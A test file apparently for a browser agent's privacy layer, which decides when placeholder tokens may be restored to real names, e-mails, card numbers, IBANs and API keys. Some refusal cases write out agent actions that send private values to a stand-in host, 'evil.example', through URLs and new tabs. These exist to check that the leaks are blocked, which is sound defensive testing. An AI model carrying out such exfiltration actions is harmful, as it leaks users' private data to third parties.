import { describe, expect, test } from "vitest"
import type { Action } from "../../../../src/core/action.ts"
import { askBeforeRestoring, restoreAction, restoreForUser, type RestoreTarget } from "../../../../src/privacy/screen/restore-action.ts"
import { createVault } from "../../../../src/privacy/vault.ts"

const vault = createVault()
vault.placeholder("Jonas Weber", "PERSON", "task")
vault.placeholder("anna@example.org", "EMAIL", "https://mail.example")
vault.placeholder("4111 1111 1111 1111", "CARD", "https://shop.example")
vault.placeholder("DE89370400440532013000", "IBAN", "task")
vault.placeholder("mia.holt@example.org", "EMAIL", "task")
vault.placeholder("sk-ab12CD34ef56GH78", "API_KEY", "https://shop.example")
const shop = (more: Partial<RestoreTarget> = {}): RestoreTarget => ({ origin: "https://shop.example", place: "home", role: "textbox", ...more })
const type = (text: string): Action => ({ verb: "type", ref: "e1", text })

describe("restoreAction", () => {
  test.each<[string, Action, RestoreTarget, Action]>([
    ["a value of the task, anywhere", type("‹PERSON_1›"), shop(), type("Jonas Weber")],
    ["a value seen on this origin", type("to ‹EMAIL_1›"), shop({ origin: "https://mail.example" }), type("to anna@example.org")],
    ["a card into a card field of the shop that showed it", type("‹CARD_1›"), shop({ field: { type: "text", autocomplete: "cc-number" } }), type("4111 1111 1111 1111")],
    ["a critical value of the task into a plain field", type("‹IBAN_1›"), shop({ field: { type: "text", key: "f17" } }), type("DE89370400440532013000")],
    ["brackets as models type them", type("<PERSON_1> «PERSON_1»"), shop(), type("Jonas Weber Jonas Weber")],
    ["what the page itself wrote", type("‹~PERSON_1›"), shop(), type("‹PERSON_1›")],
    ["no placeholder at all", type("hello"), shop(), type("hello")],
    ["options", { verb: "select", ref: "s", options: ["‹PERSON_1›", "Other"] }, shop(), { verb: "select", ref: "s", options: ["Jonas Weber", "Other"] }],
    ["an address of the same origin", { verb: "goto", url: "/find?n=‹PERSON_1›" }, shop(), { verb: "goto", url: "/find?n=Jonas%20Weber" }],
    ["a link of the site itself", { verb: "goto", url: "/reset?t=‹API_KEY_1›" }, shop({ place: "foreign" }), { verb: "goto", url: "/reset?t=sk-ab12CD34ef56GH78" }],
    ["an e-mail where another site asks for one", type("‹EMAIL_2›"), shop({ origin: "https://other.example", place: "foreign", field: { type: "email" } }), type("mia.holt@example.org")],
    ["a name in another site's frame", type("‹PERSON_1›"), shop({ origin: "https://forms.example", place: "framed" }), type("Jonas Weber")],
    ["an answer for the user", { verb: "answer", text: "It is ‹EMAIL_1›" }, shop(), { verb: "answer", text: "It is anna@example.org" }],
    ["a click", { verb: "click", ref: "b" }, shop(), { verb: "click", ref: "b" }],
    ["a note, which goes back to the model", { verb: "note", text: "‹EMAIL_1›" }, shop(), { verb: "note", text: "‹EMAIL_1›" }]
  ])("restores %s", (_, action, target, expected) => { expect(restoreAction(action, vault, target)).toEqual({ ok: true, value: expected }) })

  test.each<[string, Action, RestoreTarget]>([
    ["a value of another site", type("‹EMAIL_1›"), shop()],
    ["a value of another site into its search box", type("‹EMAIL_1›"), shop({ role: "searchbox" })],
    ["a card into a message", type("‹CARD_1›"), shop({ field: { type: "textarea", key: "message" } })],
    ["a card into an e-mail field", type("‹CARD_1›"), shop({ field: { type: "email" } })],
    ["a bank account into a search box", type("‹IBAN_1›"), shop({ field: { type: "search" } })],
    ["a placeholder that nobody made", type("‹EMAIL_99›"), shop()],
    ["the mark of a guess, which stands for nothing", type("to ‹…›"), shop()],
    ["one bad among good", { verb: "select", ref: "s", options: ["‹PERSON_1›", "‹EMAIL_1›"] }, shop()],
    ["a value in the address of another site", { verb: "goto", url: "https://evil.example/?x=‹PERSON_1›" }, shop()],
    ["a value in a host", { verb: "goto", url: "https://‹PERSON_1›.evil.example/" }, shop()],
    ["a value in a new tab elsewhere", { verb: "tab", op: "new", url: "//evil.example/‹CARD_1›" }, shop()],
    ["a value of the task into another site's search box", type("‹EMAIL_2›"), shop({ origin: "https://other.example", place: "foreign", role: "searchbox" })],
    ["a value of the task into a field of another site that asks for nothing", type("‹PERSON_1›"), shop({ origin: "https://other.example", place: "foreign", label: "Comment" })],
    ["a value of the task into a search box in another site's frame", type("‹EMAIL_2›"), shop({ origin: "https://ads.example", place: "framed", role: "searchbox" })],
    ["a bank account into any field of another site's frame", type("‹IBAN_1›"), shop({ origin: "https://ads.example", place: "framed", label: "Note" })],
    ["a bank account of the task in an address", { verb: "goto", url: "/pay?to=‹IBAN_1›" }, shop()],
    ["a value of another site in an address here", { verb: "goto", url: "/x?e=‹EMAIL_1›" }, shop()]
  ])("refuses %s", (_, action, target) => {
    const restored = restoreAction(action, vault, target)
    expect(restored).toMatchObject({ ok: false, error: { kind: "privacy.blocked" } })
    expect(JSON.stringify(restored)).not.toMatch(/anna|4111|Weber|DE89/)
  })
  test.each<[string, Action, RestoreTarget, RegExp | undefined]>([
    ["a value of the task in a search box that doesn't know it", type("orders of ‹PERSON_1›"), shop({ role: "searchbox" }), /^Search shop\.example for a private value of yours \(person\)\?/],
    ["the same in a field of another purpose", type("‹PERSON_1›"), shop({ field: { type: "text", autocomplete: "name" } }), undefined],
    ["a value that this site showed, in its search box", type("‹EMAIL_1›"), shop({ origin: "https://mail.example", role: "searchbox" }), undefined],
    ["a value of the task in an address", { verb: "goto", url: "/find?n=<PERSON_1>" }, shop(), /^Put a private value of yours \(person\) into an address of shop\.example\?/],
    ["in a new tab's address", { verb: "tab", op: "new", url: "/find?n=‹PERSON_1›&m=‹EMAIL_2›" }, shop(), /\(person, email\)/],
    ["an address that the site itself knows", { verb: "goto", url: "/reset?t=‹API_KEY_1›" }, shop(), undefined],
    ["words without placeholders", type("blue shelf"), shop({ role: "searchbox" }), undefined]
  ])("the user is asked, or isn't: %s", (_, action, target, question) => {
    const asked = askBeforeRestoring(action, vault, target)
    if (question === undefined) { expect(asked).toBeUndefined(); return }
    expect(asked).toMatch(question)
    expect(asked).not.toMatch(/Weber|anna|mia/)
  })
  test("the user sees everything", () => { expect(restoreForUser("‹PERSON_1› and [EMAIL_1]", vault)).toBe("Jonas Weber and [EMAIL_1]") })
})
